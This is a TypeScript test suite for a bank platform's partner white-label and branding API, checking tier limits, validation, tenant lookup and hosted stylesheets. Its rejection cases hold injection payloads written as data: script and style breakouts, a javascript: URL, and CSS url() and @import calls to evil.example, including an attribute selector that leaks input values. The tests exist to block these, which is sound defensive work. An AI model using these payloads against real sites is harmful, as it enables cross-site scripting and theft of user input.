// Branding: what a partner may set, and what is public under the host name of a tenant.
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Bank, startBank } from '../../../../../test/harness/bank.ts'
import { findCssProblem, findScriptProblem } from './style-validation.ts'
import { callAs, callInSandbox, onboard, type TestPartner } from '../test-support.ts'

let bank: Bank
let partner: TestPartner
beforeAll(async () => {
  bank = await startBank()
  partner = await onboard(bank)
})
afterAll(() => bank.stop())

const whitelabel = '/api/v2/partner/config/whitelabel'
const branding = '/api/partner/v1/branding'
const put = (body: object, by = partner) => callAs(bank, by, `PUT ${branding}`, body)
const look = async (query: string) => (await bank.call(`GET /api/v1/branding?${query}`)).body.data

describe('white_label.update', () => {
  it('sets the logo, the colour and the switches, and keeps what is omitted', async () => {
    const config = {
      logo_url: 'https://cdn.acme.example/logo.svg',
      primary_color: '#12AB9f',
      features: { cards: true, loans: false },
    }
    const first = await callAs(bank, partner, `PUT ${whitelabel}`, config)
    expect(first.status).toBe(200)
    expect(first.body.data).toEqual({ ...config, updated_at: expect.any(String) })
    await callAs(bank, partner, `PUT ${whitelabel}`, { primary_color: '#000000' })
    const read = await callAs(bank, partner, `GET ${whitelabel}`)
    expect(read.body.data).toMatchObject({ ...config, primary_color: '#000000' })
    const shared = await callAs(bank, partner, `GET ${branding}`)
    expect(shared.body.data).toMatchObject({ logo_url: config.logo_url, primary_color: '#000000' })
    const play = await callInSandbox(bank, partner, `GET ${whitelabel}`)
    expect(play.body.data).toMatchObject({ logo_url: null, primary_color: '#1a365d' })
  })

  it('needs a tier with white_label', async () => {
    const small = await onboard(bank, { tier: 'starter' })
    const answer = await callAs(bank, small, `PUT ${whitelabel}`, { primary_color: '#000000' })
    expect(answer.status).toBe(403)
    expect(answer.body.error).toMatchObject({
      code: 'FEATURE_NOT_IN_TIER',
      details: { feature: 'white_label', tier: 'starter', needed_tier: 'growth' },
    })
  })

  it.each([
    [{ primary_color: 'red' }, 'primary_color'],
    [{ primary_color: '#12345' }, 'primary_color'],
    [{ primary_color: '#1234567' }, 'primary_color'],
    [{ logo_url: 'http://cdn.acme.example/logo.svg' }, 'logo_url'],
    [{ logo_url: 'javascript:alert(1)' }, 'logo_url'],
    [{ logo_url: 'https://x.example/"onerror=' }, 'logo_url'],
    [{ logo_url: `https://x.example/${'a'.repeat(500)}` }, 'logo_url'],
    [{ features: { cards: 'yes' } }, 'features'],
    [{ features: 'all' }, 'features'],
  ])('refuses %j', async (wrong, field) => {
    const answer = await callAs(bank, partner, `PUT ${whitelabel}`, wrong)
    expect(answer.status).toBe(422)
    expect(Object.keys(answer.body.errors)[0]).toContain(field)
  })

  it('loses no field of two concurrent changes', async () => {
    const one = await onboard(bank)
    await Promise.all([
      put({ company_name: 'Acme' }, one),
      put({ tagline: 'Fast' }, one),
      put({ text_color: '#111111' }, one),
    ])
    expect((await callAs(bank, one, `GET ${branding}`)).body.data).toMatchObject({
      company_name: 'Acme',
      tagline: 'Fast',
      text_color: '#111111',
    })
  })
})

describe('partner_branding.update', () => {
  it('accepts a script from the tier enterprise only, and does not publish it', async () => {
    const script = 'console.log("hello")'
    expect((await put({ custom_js: script })).status).toBe(403)
    const large = await onboard(bank, { tier: 'enterprise' })
    expect((await put({ custom_js: script }, large)).body.data.custom_js).toBe(script)
    const domain = 'script.example.com'
    const tenant = { name: 'Shop', plan: 'enterprise', domain }
    await callAs(bank, large, 'POST /api/v2/partner/tenants', tenant)
    expect(await look(`domain=${domain}`)).not.toHaveProperty('custom_js')
    expect((await put({ custom_js: '</script><script>' }, large)).status).toBe(422)
  })

  it('clears a field with null, back to its default', async () => {
    await put({ accent_color: '#222222' })
    expect((await put({ accent_color: null })).body.data.accent_color).toBe('#2b6cb0')
  })
})

describe('custom styles', () => {
  it.each([
    '</style><script>alert(1)</script>',
    '@import "https://evil.example/x.css";',
    'a{background:url(https://evil.example/?a)}',
    'input[value^=a]{background:URL("https://evil.example/a")}',
    'a{width:expression(alert(1))}',
    'a{behavior:url(x.htc)}',
    'a{-moz-binding:none}',
    'a{background:image-set("https://evil.example/x" 1x)}',
    '\\75rl(https://evil.example)',
    'a{color:red}}',
    'a{color:red',
    '/* open',
    'a{content:"open}',
    "a{content:'open\n'}",
    '@font-face{font-family:x}',
  ])('refuses %j', async (custom_css) => {
    expect(findCssProblem(custom_css)).toMatch(/^must /)
    const answer = await put({ custom_css })
    expect(answer.status).toBe(422)
    expect(answer.body.errors).toHaveProperty('custom_css')
  })

  it('accepts plain ones', async () => {
    const custom_css =
      '/* ours */ .button > a { color: #123456; content: "}" }\n@media print { p { margin: 0 } }'
    expect((await put({ custom_css })).body.data.custom_css).toBe(custom_css)
  })

  it('never accepts text that could end its element or load anything', () => {
    const piece = fc.constantFrom(
      '</style>',
      '<',
      'url(',
      '@import ',
      '\\',
      'a{}',
      '"',
      "'",
      '/*',
      '*/',
      '{',
      '}',
      ' ',
      'x',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const css = pieces.join('')
        if (findCssProblem(css) !== undefined) return
        expect(css).not.toMatch(/<|\\|url\s*\(|@import/i)
        // Without its strings and comments, the remaining text opens neither.
        const bare = css.replace(/"[^"]*"|'[^']*'|\/\*[^]*?\*\//g, ' ')
        expect(bare).not.toMatch(/["']|\/\*/)
        expect(bare.split('{')).toHaveLength(bare.split('}').length)
      }),
    )
    expect(findScriptProblem('x</SCRIPT >')).toMatch(/^must /)
    expect(findScriptProblem('if (a < b) c()')).toBeUndefined()
  })
})

describe('branding.get', () => {
  it('shows the branding for the host name of a tenant, without authentication', async () => {
    const one = await onboard(bank)
    const domain = 'looks.example.com'
    const made = await callAs(bank, one, 'POST /api/v2/partner/tenants', {
      name: 'Looks Bank',
      plan: 'enterprise',
      domain,
    })
    const { tenant_id } = made.body.data
    expect(await look(`domain=${domain}`)).toMatchObject({
      white_label: true,
      tenant_id,
      company_name: 'Looks Bank',
      primary_color: '#1a365d',
    })
    await put({ primary_color: '#abcdef', company_name: 'Acme' }, one)
    const changed = await look(`domain=${domain.toUpperCase()}`)
    expect(changed).toMatchObject({ primary_color: '#abcdef', company_name: 'Acme' })
    expect(await look(`tenant=${tenant_id}`)).toEqual(changed)
  })

  it('shows that of the bank for anything unknown, suspended or without the tier', async () => {
    const own = await look('domain=unknown.example.com')
    expect(own).toMatchObject({ white_label: false, tenant_id: null, company_name: null })
    const one = await onboard(bank)
    const domain = 'away.example.com'
    const tenant = { name: 'Away', plan: 'enterprise', domain }
    await callAs(bank, one, 'POST /api/v2/partner/tenants', tenant)
    expect((await look(`domain=${domain}`)).white_label).toBe(true)
    const operator = await bank.operator()
    await bank.call(`PUT /api/v1/partners/${one.id}`, { tier: 'starter' }, operator)
    expect(await look(`domain=${domain}`)).toEqual(own)
    await bank.call(`PUT /api/v1/partners/${one.id}`, { tier: 'growth' }, operator)
    expect((await look(`domain=${domain}`)).white_label).toBe(true)
    await bank.call(`POST /api/v1/partners/${one.id}/suspend`, {}, operator)
    expect(await look(`domain=${domain}`)).toEqual(own)
    expect(await look('')).toEqual(own)
  })
})

describe('the hosted pages and the console', () => {
  it('have the colour and the name of the tenant under its host name', async () => {
    const one = await onboard(bank)
    const domain = 'pages.example.com'
    const tenant = { name: 'Pages Bank', plan: 'enterprise', domain }
    await callAs(bank, one, 'POST /api/v2/partner/tenants', tenant)
    await put({ primary_color: '#224466' }, one)
    for (const url of ['/oauth/style.css', '/console/brand.css']) {
      const style = async (host: string) =>
        (await bank.app.server.inject({ url, headers: { host } })).body
      expect(await style(`${domain}:8080`)).toContain('--brand: #224466')
      expect(await style(domain)).toContain('content: "Pages\\20 Bank"')
      expect(await style('127.0.0.1:8080')).not.toContain('.brand::after')
      expect(await style('other.example.com')).not.toContain('#224466')
    }
  })
})
